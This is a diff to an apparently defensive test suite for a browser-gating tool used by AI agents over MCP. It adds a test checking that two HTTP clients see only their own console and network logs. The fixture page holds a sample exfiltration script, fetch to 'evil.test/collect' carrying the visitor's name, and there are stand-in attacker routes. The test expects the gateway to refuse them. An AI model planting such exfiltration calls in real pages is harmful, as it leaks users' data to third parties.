@@ -5,15 +5,16 @@ fenced, injected orders removed, forged lines kept on their own line."""
 
 from __future__ import annotations
 
+import json
 import re
 from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 
-from pagewarden.integrations.mcp import ServerOptions
-from pagewarden.testing import LocalSite, Response
-from tests.integrations._mcp_client import mcp_session, ref, text_of
+from pagewarden.integrations.mcp import HttpOptions, ServerOptions
+from pagewarden.testing import LocalSite, RecordedRequest, Response
+from tests.integrations._mcp_client import http_client, http_server, mcp_session, ref, text_of
 
 pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]
 
@@ -69,9 +70,18 @@ def site() -> Iterator[LocalSite]:
             "/go",
             lambda r: Response("", status=302, headers={"Location": "http://evil.test/away"}),
         )
+        local.route("app.test", "/who", _who)
         for path in ("/collect", "/away", "/steal"):
             local.route("evil.test", path, lambda r: Response("<title>evil</title>"))
         yield local
+
+
+def _who(request: RecordedRequest) -> Response:
+    """A page that logs who opened it; alice's also sends a request to evil.test."""
+    who = (request.query.get("name") or ["nobody"])[0]
+    leak = 'fetch("http://evil.test/collect?from=" + who);' if who == "alice" else ""
+    script = f'<script>const who = {who!r}; console.log("hello " + who); {leak}</script>'
+    return Response(f"<!doctype html><title>Hello</title><p>hello</p>{script}")
 
 
 def _options(site: LocalSite, tmp_path: Path, **changes) -> ServerOptions:
@@ -200,3 +210,35 @@ async def test_the_gate_refusals_name_their_rule(site: LocalSite, tmp_path: Path
         "=> [204]" in away and "REFUSED by pagewarden's navigation gate (NO-EVIL, rule domain_deny)" in away
     )
     assert site.requests_to("evil.test") == []
+
+
+async def test_each_http_client_has_its_own_console_and_network_log(site: LocalSite, tmp_path: Path) -> None:
+    """Two clients of one server over streamable HTTP: each lists its own session's messages,
+    requests and refusals, never the other's."""
+    from pagewarden.integrations.mcp import Clients
+
+    tokens = tmp_path / "tokens.json"
+    alice, bob = "alice-" + "a" * 32, "bob-" + "b" * 32
+    clients = [{"name": "alice", "token": alice}, {"name": "bob", "token": bob}]
+    tokens.write_text(json.dumps({"clients": clients}))
+    tokens.chmod(0o600)
+    http = HttpOptions(clients=Clients.from_file(tokens))
+    async with (
+        http_server(_options(site, tmp_path, proxy=False), http) as (url, _),
+        http_client(url, alice, name="a") as first,
+        http_client(url, bob, name="b") as second,
+    ):
+        for client, name in ((first, "alice"), (second, "bob")):
+            opened = await client.call_tool(
+                "browser_navigate", {"url": site.url("app.test", f"/who?name={name}")}
+            )
+            assert not opened.isError, text_of(opened)
+            await client.call_tool("browser_wait_for", {"time": 0.5})
+        console_a = text_of(await first.call_tool("browser_console_messages", {}))
+        console_b = text_of(await second.call_tool("browser_console_messages", {}))
+        network_a = text_of(await first.call_tool("browser_network_requests", {}))
+        network_b = text_of(await second.call_tool("browser_network_requests", {}))
+    assert "hello alice" in console_a and "bob" not in console_a
+    assert "hello bob" in console_b and "alice" not in console_b
+    assert "evil.test/collect?from=alice" in network_a and "REFUSED" in network_a
+    assert "evil.test" not in network_b and "alice" not in network_b
